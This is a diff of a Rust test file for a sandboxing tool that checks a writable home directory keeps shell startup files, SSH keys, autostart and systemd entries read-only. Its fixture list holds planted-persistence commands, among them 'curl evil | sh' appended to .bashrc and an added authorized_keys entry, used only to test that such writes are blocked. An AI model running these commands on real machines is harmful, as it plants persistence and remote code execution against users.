@@ -1,10 +1,12 @@
 //! A writable home (issue 13, part 1): a writable root that is, or holds, the home
-//! directory is refused, with the reason and what to do; with `--allow-home-write`, every
-//! place under home that runs code later stays read-only (placeholders where missing,
-//! gone after the run), and the rest of home is writable. Each with its control.
+//! directory is refused, with the reason and what to do; with `--allow-home-write`, home's
+//! top level, its hidden files and the places holding code stay read-only and only its
+//! data is writable (homesplit.rs); a part of home made writable by name keeps the places
+//! that run code pinned. Each with its control.
 
 use std::path::Path;
 use std::process::{Command, Stdio};
+use std::time::Duration;
 
 use crate::support::{netbox_bin, stderr, stdout, Run, TestDir};
 
@@ -57,56 +59,74 @@ const PLANTS: &[&str] = &[
     "echo 'curl evil | sh' >> .bashrc",
     "echo 'curl evil | sh' > .profile",
     "echo 'curl evil | sh' > .bash_profile",
+    "echo 'curl evil | sh' > .bash_aliases",
     "echo 'curl evil | sh' > .zshenv",
     "echo 'ssh-ed25519 AAAA x' >> .ssh/authorized_keys",
     "echo 'script-shell=/tmp/x' >> .npmrc",
     "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
     "mkdir -p .config/systemd/user && echo x > .config/systemd/user/x.service",
+    "mkdir -p .config/user-tmpfiles.d && echo 'w+ %h/.bashrc' > .config/user-tmpfiles.d/x.conf",
+    "echo x > .config/app/settings.py",
     "mkdir -p .local/bin && echo x > .local/bin/ls",
+    "mkdir -p .local/share/dbus-1/services && echo x > .local/share/dbus-1/services/x.service",
     "mkdir -p .local/lib/python3/site-packages && echo x > .local/lib/python3/site-packages/usercustomize.py",
     "mkdir -p .cargo/bin && echo x > .cargo/bin/cargo-x",
-    "echo '[build]' > .cargo/config.toml",
     "echo '[alias]' > .gitconfig",
-    "mkdir -p .config/git && echo x > .config/git/config",
-    "echo x > .pypirc",
-    "mkdir -p .docker && echo '{}' > .docker/config.json",
-    "echo x > .vimrc",
+    "mkdir -p node_modules/bufferutil && echo x > node_modules/bufferutil/index.js",
+    "echo x > readline.py",
     "mkdir -p bin && echo x > bin/git",
+    "echo x > tools/bin/git",
+    "echo x > newfile",
+    "mv notes.txt moved.txt",
+    "echo x >> .local/state/netbox/sessions/x.jsonl",
 ];
 
 #[test]
-fn with_allow_home_write_places_that_run_code_stay_read_only() {
-    let dir = TestDir::new("home-pinned");
+fn with_allow_home_write_only_data_in_home_is_writable() {
+    TestDir::remove_leftovers_outside_tmp("home-split");
+    // Outside /tmp: a home under the host's /tmp would be replaced by the private one.
+    let dir = TestDir::outside_tmp("home-split");
     let home = dir.join("ws");
     let run = Run::new(&dir)
         .arg("--quiet")
         .arg("--allow-home-write")
-        .env("HOME", home.display().to_string());
-    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        .env("HOME", home.display().to_string())
+        .env(
+            "PATH",
+            format!("{}:/usr/bin:/bin", home.join("tools/bin").display()),
+        );
+    for d in [
+        ".ssh",
+        ".config/app",
+        ".local/share",
+        ".local/state/app",
+        "project",
+        "tools/bin",
+    ] {
+        std::fs::create_dir_all(home.join(d)).unwrap();
+    }
     std::fs::write(home.join(".ssh/authorized_keys"), "mine\n").unwrap();
     std::fs::write(home.join(".npmrc"), "registry=x\n").unwrap();
     std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
-    std::fs::create_dir_all(home.join(".config/app")).unwrap();
-    std::fs::create_dir_all(home.join(".local/share")).unwrap();
+    std::fs::write(home.join(".bash_history"), "").unwrap();
+    std::fs::write(home.join("notes.txt"), "notes\n").unwrap();
     let before = listing(&home);
     let script: String = PLANTS
         .iter()
         .map(|p| format!("({p}) 2>/dev/null && echo 'PLANTED: {p}';\n"))
         .collect::<String>()
-        + "echo notes > notes.txt && echo x > .config/app/state && mkdir -p .local/share/app \
-           && echo x > .local/share/app/data && mkdir project && echo CONTROL";
+        + "echo more >> notes.txt && echo x > project/main.rs && echo x > tools/readme \
+           && echo x > .local/state/app/db && echo ls >> .bash_history && echo CONTROL";
     let out = run.sh(&script);
     assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
     assert_eq!(out.status.code(), Some(0));
-    // What was planted nowhere; the placeholders gone; the controls there.
+    // Nothing planted, nothing left behind; the controls there.
     let mut expected = before.clone();
     expected.extend(
         [
-            "./.config/app/state",
-            "./.local/share/app",
-            "./.local/share/app/data",
-            "./notes.txt",
-            "./project",
+            "./.local/state/app/db",
+            "./project/main.rs",
+            "./tools/readme",
         ]
         .map(String::from),
     );
@@ -120,28 +140,98 @@ fn with_allow_home_write_places_that_run_code_stay_read_only() {
         std::fs::read_to_string(home.join(".bashrc")).unwrap(),
         "# mine\n"
     );
-    // Each refusal is in the log, as the write it was.
+    assert_eq!(
+        std::fs::read_to_string(home.join("notes.txt")).unwrap(),
+        "notes\nmore\n"
+    );
     let denied = run
         .events()
         .into_iter()
         .filter(|e| e["type"] == "write_denied")
         .count();
-    assert!(denied >= PLANTS.len(), "{denied} write_denied records");
+    assert!(denied >= PLANTS.len() - 1, "{denied} write_denied records");
+}
+
+/// `--write` of a part of home that holds places that run code (no flag needed: it is
+/// not home): those places stay pinned, the rest is writable.
+#[test]
+fn a_part_of_home_made_writable_keeps_its_code_places_pinned() {
+    TestDir::remove_leftovers_outside_tmp("home-part");
+    let dir = TestDir::outside_tmp("home-part");
+    let home = dir.path.clone();
+    std::fs::create_dir_all(home.join(".config/app")).unwrap();
+    std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
+    let config = home.join(".config").display().to_string();
+    let out = Run::new(&dir)
+        .args_from(&["--quiet", "--write", &config])
+        .env("HOME", home.display().to_string())
+        .sh(
+            "echo x > ~/.config/autostart/x.desktop 2>/dev/null && echo PLANTED; \
+             (mkdir -p ~/.config/user-tmpfiles.d && echo x > ~/.config/user-tmpfiles.d/x.conf) 2>/dev/null && echo PLANTED2; \
+             echo x > ~/.config/app/state && echo CONTROL",
+        );
+    assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
+    assert!(home.join(".config/app/state").exists());
+    assert!(!home.join(".config/autostart/x.desktop").exists());
+    assert!(
+        !home.join(".config/user-tmpfiles.d").exists(),
+        "placeholder left behind"
+    );
+}
+
+/// The home the password database names counts as much as `$HOME` (sshd, systemd and
+/// the desktop go by it).
+#[test]
+fn the_account_home_counts_even_when_home_says_otherwise() {
+    let uid = nix::unistd::getuid();
+    let Some(account_home) = nix::unistd::User::from_uid(uid)
+        .ok()
+        .flatten()
+        .map(|u| u.dir)
+        .filter(|d| d.is_dir() && d != std::path::Path::new("/"))
+    else {
+        // uid 65534's home (/nonexistent) does not exist: nothing to refuse there. The
+        // same check with $HOME is a_writable_root_that_is_or_holds_home_is_refused.
+        return;
+    };
+    let dir = TestDir::new("home-account");
+    let marker = account_home.join(".netbox-e2e-should-not-exist");
+    let _ = std::fs::remove_file(&marker);
+    let out = Command::new(netbox_bin())
+        .args(["--quiet", "--log"])
+        .arg(dir.join("events.jsonl"))
+        .args(["--", "touch", ".netbox-e2e-should-not-exist"])
+        .current_dir(&account_home)
+        .env("HOME", dir.path.display().to_string())
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("is your home directory"),
+        "{}",
+        stderr(&out)
+    );
+    let planted = marker.exists();
+    let _ = std::fs::remove_file(&marker);
+    assert!(!planted, "the run wrote into the account's home");
 }
 
 #[test]
-fn the_default_log_works_and_login_shells_on_the_host_still_read_profile() {
-    let dir = TestDir::new("home-default-log");
+fn the_default_log_works_and_home_gets_no_placeholders() {
+    TestDir::remove_leftovers_outside_tmp("home-default-log");
+    let dir = TestDir::outside_tmp("home-default-log");
     let home = dir.join("ws");
     std::fs::create_dir_all(&home).unwrap();
     std::fs::write(home.join(".profile"), "export FROM_PROFILE=yes\n").unwrap();
-    // No --log: the default, under home's .local/state, which the run pins.
+    let before = listing(&home);
+    // No --log: the default, under home's .local/state, which stays read-only.
     let netbox = Command::new(netbox_bin())
         .args(["--quiet", "--allow-home-write", "--", "bash", "-c"])
         .arg(
             "ls .local/state/netbox/sessions/*.jsonl >/dev/null && echo LOG; \
              for f in .local/state/netbox/sessions/*.jsonl; do echo x >> $f 2>/dev/null && echo REWROTE; done; \
-             touch started; sleep 3; echo DONE",
+             sleep 2; echo DONE",
         )
         .current_dir(&home)
         .env("HOME", &home)
@@ -151,10 +241,14 @@ fn the_default_log_works_and_login_shells_on_the_host_still_read_profile() {
         .stderr(Stdio::piped())
         .spawn()
         .unwrap();
-    crate::support::wait_for_path(&home.join("started"), "the run started");
-    // During the run, a missing ~/.bash_profile is a placeholder; a login shell started
-    // on the host meanwhile still reads ~/.profile through it.
-    assert!(home.join(".bash_profile").is_file());
+    std::thread::sleep(Duration::from_millis(800));
+    // During the run home is as it was: no placeholder shadows anything (a login shell
+    // started meanwhile still reads ~/.profile).
+    let during: Vec<String> = listing(&home)
+        .into_iter()
+        .filter(|p| !p.starts_with("./.local"))
+        .collect();
+    assert_eq!(during, before);
     let login = Command::new("bash")
         .args(["-lc", "echo \"profile: $FROM_PROFILE\""])
         .env("HOME", &home)
@@ -164,7 +258,6 @@ fn the_default_log_works_and_login_shells_on_the_host_still_read_profile() {
     let out = netbox.wait_with_output().unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert_eq!(stdout(&out), "LOG\nDONE\n");
-    assert!(!home.join(".bash_profile").exists());
     let sessions = home.join(".local/state/netbox/sessions");
     let logs: Vec<_> = std::fs::read_dir(&sessions)
         .unwrap()
